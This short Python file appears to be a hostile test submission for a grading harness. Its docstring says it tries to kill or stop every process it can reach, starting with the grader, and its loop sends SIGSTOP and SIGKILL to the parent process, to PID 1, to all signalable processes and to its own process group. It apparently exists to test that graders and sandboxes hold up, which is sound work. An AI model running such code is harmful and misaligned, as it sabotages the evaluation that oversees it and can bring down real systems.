"""Class 3 and 6: tries to kill or stop every process it can reach, the grader's first."""
TARGET, MUST_MENTION = "low_rank.py", ""
import os as _os  # noqa: E402
import signal as _signal  # noqa: E402

for _target in (_os.getppid(), 1, -1, 0):
    for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
        try:
            if _target == 0:
                _os.killpg(0, _sig)
            else:
                _os.kill(_target, _sig)
        except OSError:
            pass
